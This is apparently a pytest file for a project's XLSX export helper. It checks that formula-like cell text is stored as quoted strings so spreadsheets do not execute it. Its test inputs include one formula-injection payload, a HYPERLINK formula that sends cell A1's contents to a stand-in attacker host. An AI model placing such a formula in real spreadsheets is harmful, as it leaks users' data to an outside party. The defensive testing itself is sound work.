"""The one XLSX writer: text that a spreadsheet would run as a formula is written as a string."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kadry.lib.xlsx import table_to_xlsx

FORMULA_LIKE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Открыть")',
    "+7 910 000-00-00",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_written_as_a_string_with_a_quote_prefix(text: str) -> None:
    [_header, [cell, plain]] = _cells(table_to_xlsx("Лист", ["А", "Б"], [[text, "Иванова"]]))
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Иванова", "s", False)


def test_numbers_dates_and_empty_cells_keep_their_types() -> None:
    import datetime as dt

    [_header, row] = _cells(table_to_xlsx("Лист", ["a", "b", "c", "d"], [[-1, 2.5, dt.date(2026, 1, 2), None]]))
    assert [cell.data_type for cell in row] == ["n", "n", "d", "n"]
    assert row[0].value == -1 and row[3].value is None


def test_a_formula_like_header_is_a_string_too() -> None:
    [[cell]] = _cells(table_to_xlsx("Лист", ["=1+1"], []))
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_no_other_module_writes_xlsx() -> None:
    """Every export goes through ``table_to_xlsx``: a second writer would miss the formula guard."""
    kadry = Path(__file__).resolve().parents[2]
    writer = re.compile(r"\bWorkbook\s*\(|\bWriteOnlyCell\b|\.save\(.*xlsx|xlsxwriter")
    offenders = [
        str(path.relative_to(kadry))
        for path in kadry.rglob("*.py")
        if "tests" not in path.parts and path.name != "xlsx.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
